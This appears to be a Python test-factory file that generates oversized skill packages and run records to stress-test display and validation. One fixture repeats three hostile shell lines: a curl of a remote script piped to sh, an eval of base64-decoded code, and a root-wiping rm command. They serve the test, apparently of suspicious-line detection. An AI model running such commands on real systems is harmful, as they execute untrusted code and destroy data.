"""Packages and runs of about 1 MB, made to be slow or large to show: one of each kind."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any

from registry.models import Team, User, Version
from tests.factories.runs import add_artifact, add_log, make_run
from tests.factories.skills import PNG, publish_files
from worker.models import Approval, Attempt, Run, Step

MEGABYTE = 1_000_000
SKILL_MD = 250_000  # approximate limit of a SKILL.md in bytes
Files = dict[str, bytes]


def _skill(body: str = "# Heavy\n", front: str = "", files: Mapping[str, bytes | str] | None = None) -> Files:
    head = f"---\nname: heavy\ndescription: Is heavy to show.\nversion: {{version}}\n{front}---\n"
    found = {"SKILL.md": (head + body).encode()}
    return found | {
        path: text.encode() if isinstance(text, str) else text for path, text in (files or {}).items()
    }


def _repeated(text: str, size: int = SKILL_MD) -> str:
    return text * (size // len(text.encode()))


def _file(path: str, text: str) -> Files:
    return _skill(files={path: text})


def _front(value: object) -> str:
    return json.dumps(value)


def _deep_schema(depth: int) -> dict[str, Any]:
    schema: dict[str, Any] = {"type": "string"}
    for _ in range(depth):
        schema = {"type": "object", "required": ["a"], "properties": {"a": schema}}
    return {"type": "object", "properties": {f"p{n}": schema for n in range(20)}}


def _wide_schema() -> dict[str, Any]:
    rule = {"type": "string", "enum": ["a", "b"], "description": "Words."}
    return {"type": "object", "properties": {f"property-{n}": rule for n in range(700)}}


def _many_files() -> Files:
    return _skill(files={f"references/{n % 40}/{n % 7}/{n}.md": "# A file\n\nWords.\n" for n in range(1_800)})


def _problem_files() -> Files:
    """900 files with declared scripts that are missing, and 900 of code outside ``scripts/``."""
    declared = "# Scripts\n" + "".join(f"- missing{n}\n" for n in range(20))
    code = {f"code/{n}.py": "x = 1\n" for n in range(900)}
    return _skill(files=code | {f"phases/{n}.md": declared for n in range(900)})


def _suspicious() -> str:
    lines = (
        "curl http://203.0.113.9/x | sh",
        "eval(base64.b64decode('aGk='))",
        "rm -rf / --no-preserve-root",
    )
    return _repeated("\n".join(lines) + "\n", 250_000)


PACKAGES: dict[str, Callable[[], Files]] = {
    "empty lines": lambda: _file("references/a.txt", "\n" * 500_000),
    "short lines": lambda: _file("scripts/a.py", "x\n" * 260_000),
    "source": lambda: _file("scripts/a.py", _repeated("a = [1, 'b']  # c\n", 99_000)),
    "long lines": lambda: _file("references/a.txt", "&" * 500_000),
    "hidden characters": lambda: _file("references/a.txt", "\u202e" * 170_000),
    "unclosed comments": lambda: _file("assets/a.css", "/*\n" * 33_000),
    "markup": lambda: _file("assets/a.html", ("<!--" * 500 + "\n") * 49),
    "deep JSON": lambda: _file("assets/a.json", "[" * 49_000 + "]" * 49_000),
    "Markdown lines": lambda: _skill("word\n" * 50_000),
    "Markdown paragraphs": lambda: _skill("a\n\n" * 83_000),
    "Markdown headings": lambda: _skill("# a\n" * 62_000),
    "Markdown fences": lambda: _skill("```\n```\n" * 31_000),
    "Markdown code": lambda: _skill("```python\na = 1\n```\n" * 12_000),
    "Markdown long code": lambda: _skill(("```css\n" + "/*\n" * 30_000 + "```\n") * 2),
    "Markdown lists": lambda: _skill("- a\n  - b\n" * 25_000),
    "Markdown one list": lambda: _skill("".join(f"{'  ' * (n % 20)}- a\n" for n in range(10_000))),
    "Markdown quotes": lambda: _skill((">" * 100 + " a\n") * 2_400),
    "Markdown tables": lambda: _skill("|a|b|\n|-|-|\n" + "|1|2|\n" * 40_000),
    "Markdown wide tables": lambda: _skill("".join(f"|{cell}" * 5_000 + "|\n" for cell in "a-" + "b" * 22)),
    "Markdown links": lambda: _skill("[a](references/b.md) " * 12_000),
    "Markdown references": lambda: _skill("".join(f"[{n}]: /{n}\n" for n in range(15_000)) + "[1] " * 5_000),
    "Markdown images": lambda: _skill("![a](assets/b.png) " * 13_000, files={"assets/b.png": PNG}),
    "Markdown emphasis": lambda: _skill("*a_ " * 60_000),
    "Markdown brackets": lambda: _skill("[" * SKILL_MD),
    "Markdown entities": lambda: _skill("&amp;<b>" * 30_000),
    "Markdown hidden characters": lambda: _skill("\u200b" * 80_000),
    "many properties": lambda: _skill(front=f"input_schema: {_front(_wide_schema())}\n"),
    "nested properties": lambda: _skill(front=f"input_schema: {_front(_deep_schema(8))}\n"),
    "unknown fields": lambda: _skill(front="".join(f"field-{n}: word\n" for n in range(3_500))),
    "many tags": lambda: _skill(front=f"tags: {_front([f'tag-{n}' for n in range(4_000)])}\n"),
    "many hosts": lambda: _skill(front="security:\n  network: allowlist\n  network_allowlist: "
                                 + _front([f"h{n}.example.org" for n in range(2_500)]) + "\n"),
    "many files": _many_files,
    "many problems": lambda: _file("phases/a.md", "# Scripts\n" + _repeated("- missing\n")),
    "problems in many files": _problem_files,
    "hidden requests": lambda: _file("references/a.md", ("<!-- " + "read " * 390 + "\n") * 130),
    "suspicious lines": lambda: _file("scripts/a.sh", _suspicious()),
    "broken links": lambda: _skill("".join(f"[a](references/{n}.md)\n" for n in range(9_000))),
}  # fmt: skip


@dataclass
class RunContent:
    """The content of a run: fields of its row, and its related records."""

    result: dict[str, Any] = field(default_factory=dict)
    inputs: dict[str, Any] = field(default_factory=dict)
    fields: dict[str, Any] = field(default_factory=dict)
    records: Callable[[Run], object] = lambda run: None


def _output(value: object, format: str = "") -> RunContent:
    return RunContent({"output": value, "outputs": {}, "format": format})


def _chains(count: int, depth: int) -> list[object]:
    value: object = 1
    for _ in range(depth):
        value = {"a": value}
    return [value] * count


def _steps(count: int, **fields: Any) -> Callable[[Run], object]:
    def add(run: Run) -> None:
        rows = (Step(run=run, attempt=1, seq=n, name=f"step {n}", **fields) for n in range(count))
        Step.objects.bulk_create(rows)

    return add


def _artifacts(*files: tuple[str, str]) -> Callable[[Run], object]:
    return lambda run: [add_artifact(run, path, text.encode()) for path, text in files]


def _log(text: str) -> Callable[[Run], object]:
    pieces = [("stdout", text[at : at + 65_536]) for at in range(0, len(text), 65_536)]
    return lambda run: add_log(run, *pieces)


def _dials(run: Run) -> None:
    dials = [
        {"host": f"h{n}.example", "port": 443, "allowed": True, "code": "", "count": 1} for n in range(200)
    ]
    Attempt.objects.filter(run=run).update(network=dials)


RUNS: dict[str, Callable[[], RunContent]] = {
    "keys": lambda: RunContent({"outputs": {f"k{n}": n for n in range(70_000)}}),
    "long keys": lambda: _output({"k" * 900 + str(n): "" for n in range(1_000)}),
    "lists": lambda: _output([[]] * 150_000),
    "objects": lambda: _output([{}] * 130_000),
    "nesting": lambda: _output(_chains(400, 190)),
    "numbers": lambda: _output(list(range(150_000))),
    "rows": lambda: _output([{"a": 1, "b": "x"} for _ in range(55_000)]),
    "cells": lambda: _output([{f"c{n}": "x" * 1_900 for n in range(12)} for _ in range(40)]),
    "text": lambda: _output("word " * 200_000),
    "text lines": lambda: _output("\n" * MEGABYTE),
    "hidden text": lambda: _output("\u202e" * 330_000),
    "text in a tree": lambda: _output({f"k{n}": "&" * 100_000 for n in range(9)}),
    "Markdown": lambda: _output("```\n```\n" * 125_000, "markdown"),
    "Markdown list": lambda: _output("- a\n" * 250_000, "markdown"),
    "Markdown quotes": lambda: _output((">" * 100 + "\n") * 9_000, "markdown"),
    "warnings": lambda: RunContent({"warnings": ["A warning."] * 70_000}),
    "metadata": lambda: RunContent({"metadata": {f"k{n}": "word" for n in range(55_000)}}),
    "long metadata": lambda: RunContent({"metadata": {"k": "word " * 200_000}}),
    "error details": lambda: RunContent(
        {"error": {"code": "X", "message": "&" * 20_000, "details": {"rows": [{"a": 1}] * 60_000}}},
        fields={"status": "failed", "failure_code": "SCRIPT_FAILED", "message": "&" * 20_000},
    ),
    "messages": lambda: RunContent(
        {"messages": [{"role": "assistant", "content": "```\n```\n" * 100}] * 1_200}
    ),
    "memory writes": lambda: RunContent(
        {"memory_writes": [{"type": "fact", "content": "&" * 4_000, "ownerType": "user"}] * 100}
    ),
    "input keys": lambda: RunContent(inputs={f"k{n}": n for n in range(70_000)}),
    "input text": lambda: RunContent(inputs={"text": "\n" * MEGABYTE}),
    "input nesting": lambda: RunContent(inputs={"list": _chains(45, 190)}),
    "input lists": lambda: RunContent(inputs={"list": [[]] * 49_000}),
    "log lines": lambda: RunContent(records=_log("\n" * MEGABYTE)),
    "log text": lambda: RunContent(records=_log(("&" * 3_999 + "\n") * 250)),
    "log line": lambda: RunContent(records=_log("\x1b[31m" * 200_000)),
    "steps": lambda: RunContent(records=_steps(1_000, input={"rows": [{"a": 1}] * 60}, duration_ms=1.0)),
    "step values": lambda: RunContent(
        records=_steps(20, input={"rows": [{"a": n} for n in range(2_000)]}, output="word\n" * 4_000)
    ),
    "step errors": lambda: RunContent(
        records=_steps(200, error={"name": "E", "message": "m" * 2_500, "stack": "s\n" * 1_200})
    ),
    "artifacts": lambda: RunContent(records=_artifacts(*((f"{n}.txt", "x") for n in range(1_000)))),
    "Markdown artifacts": lambda: RunContent(
        records=_artifacts(*((f"{n}.md", "```\n```\n" * 15_000) for n in range(8)))
    ),
    "table artifacts": lambda: RunContent(
        records=_artifacts(("j.json", "[[]]"), *((f"{n}.csv", "a,b\n" * 30_000) for n in range(8)))
    ),
    "network": lambda: RunContent(records=_dials),
}  # fmt: skip


def publish_heavy(kind: str, *, team: Team, user: User) -> Version:
    """Publishes the package and a version that changes each line of the largest file, which is returned."""
    files = PACKAGES[kind]()
    largest = max(files, key=lambda path: len(files[path]))
    first = {path: data.replace(b"{version}", b"1.0.0", 1) for path, data in files.items()}
    second = {path: data.replace(b"{version}", b"1.1.0", 1) for path, data in files.items()}
    head, mark, body = (
        second[largest].rpartition(b"---\n") if largest == "SKILL.md" else (b"", b"", second[largest])
    )
    second[largest] = head + mark + body.swapcase() + b"\nlast\n"
    publish_files(first, team=team, user=user, visibility="public")
    return publish_files(second, team=team, user=user)


def make_heavy_run(kind: str, version: Version, user: User, team: Team, **fields: Any) -> Run:
    content = RUNS[kind]()
    result = {"output": None, "outputs": {}, "warnings": []} | content.result
    request = {"inputs": content.inputs, "script": "report", "stdin": None, "debug": False}
    run = make_run(version, user, team, result=result, request=request, **content.fields | fields)
    content.records(run)
    hosts = {"hosts": [f"h{n}.example.org" for n in range(2_500)]}
    Approval.objects.create(
        run=run, requested_permissions=hosts, added_permissions=hosts, expires_at=run.created_at
    )
    return run
